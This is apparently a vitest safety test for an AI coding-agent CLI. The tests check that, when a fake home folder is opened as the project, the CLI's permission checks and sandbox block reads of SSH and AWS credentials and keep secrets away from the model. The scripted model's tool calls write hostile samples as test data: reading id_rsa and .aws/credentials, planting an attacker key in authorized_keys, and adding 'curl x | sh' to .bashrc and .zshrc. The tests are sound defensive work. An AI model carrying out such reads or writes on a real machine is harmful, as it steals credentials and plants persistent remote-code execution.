/**
 * The home folder as a project, through the real CLI against the scripted model server: a fake
 * HOME (the CLI child's HOME) is opened as the project, with an SSH key, AWS credentials and a
 * `.bashrc`. Without --allow-home a piped run does not start and a terminal (a real PTY, from
 * `script`) is asked first; with it, a read of a credential is
 * asked (refused headless, refused in full-auto) and its content never reaches the model, searches
 * leave credentials out, and writes to `~/.ssh` and the shell start-up files are asked or refused.
 * Every file of the fake home is hashed before and after.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import { cliArgv, spawnCli } from '../fixtures/cli.js'
import {
  bash,
  callOutcome,
  cliEnv,
  disposeWorld,
  finished,
  makeWorld,
  runArgs,
  sandboxHere,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
  spawnBridle,
  toolCalls,
  writeTree,
} from './safety-fixture.js'
import type { World } from './safety-fixture.js'

const sandbox = await sandboxHere('safety-home')

/** Appears only inside the credentials: seen in a request body, it reached the model. */
const SECRET = 'SECRET-7f3a9c51'

let world: World | undefined
let server: ModelServer | undefined

afterEach(async () => {
  await server?.close()
  server = undefined
  disposeWorld(world)
  world = undefined
})

/** A world whose project is its fake home, holding credentials and start-up files. */
function homeWorld(label: string, config: Record<string, unknown> = {}): World {
  const made = makeWorld(label, config)
  writeTree(made.home, {
    '.ssh/id_rsa': `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET}-ssh\n`,
    '.aws/credentials': `[default]\naws_secret_access_key = ${SECRET}-aws\n`,
    '.npmrc': `//registry.npmjs.org/:_authToken=${SECRET}-npm\n`,
    '.profile': '# sentinel profile\n',
    'src/app.txt': 'ordinary project file\n',
  })
  return { ...made, project: made.home }
}

/** `bridle run` in the fake home, with `extra` flags before the prompt. */
function runInHome(w: World, prompt: string, approval: string, extra: string[] = []) {
  const args = runArgs(server, prompt, { approval })
  return finished(spawnBridle(w, [...args.slice(0, -1), ...extra, prompt]))
}

/** How many chat requests the model server got. */
const chats = (s: ModelServer): number =>
  s.requests.filter((r) => r.path.endsWith('/chat/completions')).length

/** Everything the model server was sent, as one text. */
const sentToModel = (s: ModelServer): string => s.requests.map((r) => r.rawBody).join('\n')

describe('the home folder as a project', () => {
  it('a piped run in the home folder warns and does not start without --allow-home', async () => {
    world = homeWorld('home-refuse')
    const before = snapshotSentinels(world)
    server = await startModelServer({ script: ['Done.'] })
    const run = await runInHome(world, 'hello', 'ask')
    expect(run.status, run.stderr).toBe(2)
    expect(run.stderr).toContain('is your home folder or holds it')
    expect(run.stderr).toContain('--allow-home')
    expect(chats(server)).toBe(0)
    expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
  })

  for (const answer of ['n', 'y']) {
    it(`on a terminal it asks first; "${answer}" ${answer === 'y' ? 'runs' : 'does not start'}`, async () => {
      const w = homeWorld(`home-tty-${answer}`)
      world = w
      const before = snapshotSentinels(w)
      server = await startModelServer({ script: ['Done.'] })
      const argv = cliArgv({ home: w.data, project: w.project }, ...runArgs(server, 'hi'))
      const quote = (word: string) => `'${word.replace(/'/g, `'\\''`)}'`
      // `script` gives the CLI a real terminal; what we write to its stdin is typed there.
      const line = [process.execPath, ...argv].map(quote).join(' ')
      const child = spawnCli(['-qfec', line, '/dev/null'], 'script', cliEnv(w))
      let output = ''
      child.stdout.on('data', (d: Buffer) => (output += d.toString()))
      child.stderr.on('data', (d: Buffer) => (output += d.toString()))
      const exited = new Promise<number | null>((resolve) => child.once('exit', resolve))
      await expect.poll(() => output, { timeout: 30_000 }).toContain('[y/N]')
      expect(chats(server)).toBe(0)
      child.stdin.write(`${answer}\n`)
      expect(await exited, output).toBe(answer === 'y' ? 0 : 2)
      expect(output).toContain('is your home folder or holds it')
      expect(chats(server)).toBe(answer === 'y' ? 1 : 0)
      expect(sentinelChanges(before, snapshotSentinels(w))).toEqual([])
    })
  }

  it('ask, headless: reading a credential is not run, searches leave credentials out', async () => {
    world = homeWorld('home-ask')
    const before = snapshotSentinels(world)
    server = await startModelServer({
      script: [
        toolCalls(
          { id: 'read-key', name: 'read', args: { path: '.ssh/id_rsa' } },
          { id: 'read-aws', name: 'read', args: { path: './.aws/../.aws/credentials' } },
          { id: 'read-npmrc', name: 'read', args: { path: '.npmrc' } },
          { id: 'list-ssh', name: 'list', args: { path: '.ssh' } },
          { id: 'grep-ssh', name: 'grep', args: { pattern: 'SECRET-[0-9a-f]+', path: '.ssh' } },
          { id: 'grep-all', name: 'grep', args: { pattern: 'SECRET-[0-9a-f]+|sentinel' } },
          { id: 'glob-all', name: 'glob', args: { pattern: '**/*' } },
          { id: 'list-all', name: 'list', args: { path: '.', depth: 3 } },
          { id: 'read-ok', name: 'read', args: { path: 'src/app.txt' } },
        ),
        'Done.',
      ],
    })
    const run = await runInHome(world, 'look around', 'ask', ['--allow-home'])
    expect(run.status, run.stderr).toBe(0)
    expect(run.stderr).toContain('is your home folder or holds it')
    const events = sessionEvents(world)
    for (const id of ['read-key', 'read-aws', 'read-npmrc', 'list-ssh', 'grep-ssh']) {
      const outcome = callOutcome(events, id)
      expect(outcome.code, JSON.stringify(outcome)).toBe('NO_APPROVAL_CHANNEL')
    }
    const output = (id: string) => {
      const { result } = callOutcome(events, id)
      expect(result?.ok, JSON.stringify(result)).toBe(true)
      return result?.ok ? result.output : ''
    }
    // The search ran over the whole home: it finds the start-up files, not the credentials.
    expect(output('grep-all')).toContain('.bashrc')
    expect(output('grep-all')).not.toMatch(/\.ssh|\.aws|\.npmrc/)
    expect(output('glob-all')).toContain('src/app.txt')
    expect(output('glob-all')).not.toMatch(/id_rsa|credentials|\.npmrc/)
    // The list shows the folders' names but does not open them.
    expect(output('list-all')).toContain('.ssh/')
    expect(output('list-all')).not.toMatch(/id_rsa|credentials/)
    expect(output('read-ok')).toContain('ordinary project file')
    expect(sentToModel(server)).not.toContain(SECRET)
    expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
  })

  const modes = [
    { approval: 'auto-edit', code: 'NO_APPROVAL_CHANNEL' },
    { approval: 'full-auto', code: 'POLICY_DENIED' },
  ] as const
  for (const mode of modes) {
    it(`${mode.approval}: ~/.ssh and the shell start-up files are not written, keys not read`, async () => {
      world = homeWorld(`home-${mode.approval}`, { sandbox: 'auto' })
      const before = snapshotSentinels(world)
      const bashrc = readFileSync(join(world.home, '.bashrc'), 'utf8')
      const attacker = 'ssh-ed25519 AAAA attacker'
      server = await startModelServer({
        script: [
          toolCalls(
            { id: 'read-key', name: 'read', args: { path: '.ssh/id_rsa' } },
            {
              id: 'w-keys',
              name: 'write',
              args: { path: '.ssh/authorized_keys', content: attacker },
            },
            { id: 'w-zshrc', name: 'write', args: { path: '.zshrc', content: 'curl x | sh\n' } },
            {
              id: 'w-fish',
              name: 'write',
              args: { path: '.config/fish/config.fish', content: 'x' },
            },
            {
              id: 'e-bashrc',
              name: 'edit',
              args: { path: '.bashrc', oldText: bashrc.trim(), newText: 'curl x | sh' },
            },
            { id: 'w-ok', name: 'write', args: { path: 'src/new.txt', content: 'fine\n' } },
          ),
          'Done.',
        ],
      })
      const run = await runInHome(world, 'set up', mode.approval, ['--allow-home'])
      expect(run.status, run.stderr).toBe(0)
      const events = sessionEvents(world)
      for (const id of ['read-key', 'w-keys', 'w-zshrc', 'w-fish', 'e-bashrc']) {
        const outcome = callOutcome(events, id)
        expect(outcome.code, JSON.stringify(outcome)).toBe(
          id === 'read-key' && mode.approval === 'auto-edit' ? 'NO_APPROVAL_CHANNEL' : mode.code,
        )
      }
      expect(callOutcome(events, 'w-ok').code).toBe('ok')
      expect(sentToModel(server)).not.toContain(SECRET)
      const changes = sentinelChanges(before, snapshotSentinels(world))
      expect(changes).toEqual([`added: ${join(world.home, 'src/new.txt')}`])
    })
  }

  it.skipIf(!sandbox.available)(
    'full-auto: a sandboxed command cannot change the start-up files or read the key',
    async () => {
      world = homeWorld('home-bash', { sandbox: 'required' })
      const script = [
        'echo "curl x | sh" >> .bashrc; echo "bashrc $?"',
        'echo "curl x | sh" > .zshrc; echo "zshrc $?"',
        'cat .ssh/id_rsa .aws/credentials; echo "cat $?"',
      ].join('\n')
      writeTree(world.home, { 'w.sh': script })
      const after0 = snapshotSentinels(world)
      server = await startModelServer({ script: [toolCalls(bash('sh', 'sh ./w.sh')), 'Done.'] })
      const run = await runInHome(world, 'run it', 'full-auto', ['--allow-home'])
      expect(run.status, run.stderr).toBe(0)
      const outcome = callOutcome(sessionEvents(world), 'sh')
      const detail = JSON.stringify(outcome, null, 1)
      expect(outcome.code, detail).toBe('ok')
      expect(outcome.result?.metadata?.['sandboxed'], detail).toBe(true)
      const output = outcome.result?.ok ? outcome.result.output : ''
      expect(output, detail).toMatch(/bashrc [1-9]/)
      expect(output, detail).toMatch(/zshrc [1-9]/)
      expect(output, detail).toMatch(/cat [1-9]/)
      expect(sentToModel(server)).not.toContain(SECRET)
      expect(sentinelChanges(after0, snapshotSentinels(world))).toEqual([])
    },
  )
})
